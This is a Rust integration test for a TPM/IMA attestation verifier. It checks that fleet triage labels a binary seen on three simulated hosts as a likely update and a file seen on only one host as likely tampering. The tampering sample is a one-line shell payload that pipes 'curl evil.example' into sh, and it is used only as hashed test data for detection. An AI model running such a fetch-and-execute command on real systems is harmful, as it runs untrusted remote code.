//! IMA fleet triage end to end, in process (issue 5, scope 5): one verifier (`vouch serve`'s
//! code, HTTPS, SQLite), five simulated hosts of cohort `web` each running the real agent over
//! a simulated TPM whose PCR 10 the simulated kernel extends, all under one runtime policy.
//! The same unknown binary runs on three hosts (an update being rolled out) and another one on
//! a single host (tampering); `GET /api/v1/ima/triage` and `vouch fleet ima-triage --json` tell
//! them apart.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::arithmetic_side_effects,
    clippy::cast_possible_truncation,
    reason = "test code: a failed step is a failed test"
)]

use std::collections::BTreeMap;
use std::net::SocketAddr;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Duration;

use vouch_agent::{Agent, AgentConfig, Outcome};
use vouch_api::{AdminClient, HostStatus};
use vouch_ima::policy::PolicyDocument;
use vouch_sim::{SimCa, SimTpm};
use vouch_tpm::TpmSpec;
use vouch_tpm2::HashAlg;
use vouch_verifier::ima_fleet::{Assessment, ImaTriage};

#[path = "support/ima.rs"]
mod ima_support;

use ima_support::{allow_files, boot_aggregate, files, ima_ng};

const FIRMWARE_LOG: &[u8] = include_bytes!("../demo/qemu-ubuntu2004-1.bin");

fn known_files() -> Vec<u8> {
    files(0..5)
}

fn policy() -> PolicyDocument {
    allow_files(5)
}

struct Host {
    name: String,
    tpm: SimTpm,
    agent: Agent,
}

async fn host(dir: &Path, ca: &Arc<SimCa>, url: &str, ca_pem: &[u8], name: &str) -> Host {
    let tpm_dir = dir.join(name).join("tpm");
    let mut tpm = SimTpm::builder()
        .ca(ca.clone())
        .create_dir(&tpm_dir)
        .unwrap();
    tpm.boot_with_event_log(FIRMWARE_LOG).unwrap();
    tpm.load_ima_list(&boot_aggregate(&tpm)).unwrap();
    let agent_tpm =
        vouch_tpm::open(&TpmSpec::Sim(tpm_dir.clone()), &dir.join(name).join("a")).unwrap();
    let mut agent = Agent::new(
        AgentConfig {
            verifier: url.to_owned(),
            verifier_ca_pem: ca_pem.to_vec(),
            name: name.to_owned(),
            labels: BTreeMap::from([("cohort".to_owned(), "web".to_owned())]),
            event_log: tpm_dir.join(vouch_sim::EVENT_LOG_FILE),
            state_dir: dir.join(name).join("agent"),
            max_attestations: None,
        },
        agent_tpm,
    )
    .unwrap()
    .with_ima_log(Some(tpm_dir.join(vouch_sim::IMA_LOG_FILE)));
    // Enrol (auto-approved).
    assert!(agent.step().await.unwrap().is_none());
    Host {
        name: name.to_owned(),
        tpm,
        agent,
    }
}

async fn attest(admin: &AdminClient, h: &mut Host) -> Outcome {
    admin.attest(&h.name).await.unwrap();
    for _ in 0..20 {
        if let Some(o) = h.agent.step().await.unwrap() {
            return o;
        }
    }
    panic!("no attestation from {}", h.name);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn triage_tells_an_update_on_many_hosts_from_tampering_on_one() {
    let dir = tempfile::tempdir().unwrap();
    let ca = Arc::new(SimCa::generate().unwrap());
    let roots = dir.path().join("ek-roots");
    std::fs::create_dir_all(&roots).unwrap();
    std::fs::write(roots.join("sim-ca.pem"), ca.cert_pem()).unwrap();
    let data_dir = dir.path().join("verifier");
    let mut config =
        vouch_verifier::ServeConfig::new(SocketAddr::from(([127, 0, 0, 1], 0)), data_dir.clone());
    config.ek_roots = Some(roots);
    config.interval = Duration::from_secs(3600);
    config.long_poll = Duration::from_secs(5);
    config.auto_approve = vec!["name=*".parse().unwrap()];
    config.ima = true;
    let server = vouch_verifier::serve(config).await.unwrap();
    let url = format!("https://{}", server.local_addr());
    let ca_path: PathBuf = data_dir.join("ca.pem");
    let ca_pem = std::fs::read(&ca_path).unwrap();
    let token = std::fs::read_to_string(data_dir.join("admin.token"))
        .unwrap()
        .trim()
        .to_owned();
    let admin = AdminClient::new(&url, &ca_pem, &token).unwrap();

    let created = admin
        .add_ima_policy(&serde_json::to_value(policy()).unwrap())
        .await
        .unwrap();
    let mut hosts = Vec::new();
    for i in 0..5 {
        let h = host(dir.path(), &ca, &url, &ca_pem, &format!("web-{i}")).await;
        admin
            .set_ima_policy(&h.name, Some(&created.id))
            .await
            .unwrap();
        hosts.push(h);
    }
    // Everyone runs known files: trusted, nothing to triage.
    for h in &mut hosts {
        h.tpm.append_ima_entries(&known_files()).unwrap();
        let o = attest(&admin, h).await;
        assert_eq!(o.status, HostStatus::Trusted, "{}: {:?}", h.name, o.reasons);
    }

    // A new build of a daemon on three hosts; a dropped payload on one.
    let update = b"ELF foo daemon 2.0\n";
    let payload = b"#!/bin/sh\ncurl evil.example | sh\n";
    for h in &mut hosts[..3] {
        h.tpm
            .append_ima_entries(&ima_ng("/usr/sbin/food", update))
            .unwrap();
    }
    hosts[4]
        .tpm
        .append_ima_entries(&ima_ng("/tmp/.x/payload", payload))
        .unwrap();
    for (i, h) in hosts.iter_mut().enumerate() {
        let o = attest(&admin, h).await;
        let want = if i == 3 {
            HostStatus::Trusted
        } else {
            HostStatus::Untrusted
        };
        assert_eq!(o.status, want, "{}: {:?}", h.name, o.reasons);
    }

    let http = reqwest::Client::builder()
        .tls_certs_only([reqwest::Certificate::from_pem(&ca_pem).unwrap()])
        .build()
        .unwrap();
    let triage_url = format!("{url}/api/v1/ima/triage");
    // Admin only.
    let resp = http.get(&triage_url).send().await.unwrap();
    assert_eq!(resp.status(), 401);
    let resp = http
        .get(&triage_url)
        .bearer_auth(&token)
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    let t: ImaTriage = resp.json().await.unwrap();
    assert_eq!(t.hosts, 5);
    assert_eq!(t.groups.len(), 2, "{t:#?}");
    let digest = |c: &[u8]| format!("sha256:{}", HashAlg::Sha256.hash(c).to_hex());

    let isolated = &t.groups[0];
    assert_eq!(isolated.assessment, Assessment::Isolated, "{t:#?}");
    assert_eq!(isolated.path, "/tmp/.x/payload");
    assert_eq!(isolated.digest, digest(payload));
    assert_eq!(isolated.hosts, ["web-4"]);
    assert_eq!(isolated.cohort, "web");
    assert_eq!(isolated.cohort_size, 5);
    assert!(
        isolated.explanation.ends_with(
            "on 1 of 5 hosts of cohort web (web-4): likely tampering; investigate the host"
        ),
        "{}",
        isolated.explanation
    );

    let update_group = &t.groups[1];
    assert_eq!(update_group.assessment, Assessment::LikelyUpdate, "{t:#?}");
    assert_eq!(update_group.path, "/usr/sbin/food");
    assert_eq!(update_group.digest, digest(update));
    assert_eq!(update_group.hosts, ["web-0", "web-1", "web-2"]);
    assert!(
        update_group
            .explanation
            .ends_with("on 3 of 5 hosts of cohort web: likely an update; push a policy update"),
        "{}",
        update_group.explanation
    );

    // The CLI prints the same object.
    let out = tokio::task::spawn_blocking(move || {
        std::process::Command::new(env!("CARGO_BIN_EXE_vouch"))
            .args(["fleet", "ima-triage", "--json"])
            .env("VOUCH_URL", &url)
            .env("VOUCH_TOKEN", &token)
            .env("VOUCH_CA", &ca_path)
            .output()
            .unwrap()
    })
    .await
    .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let cli: ImaTriage = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(cli, t);
    server.shutdown().await;
}
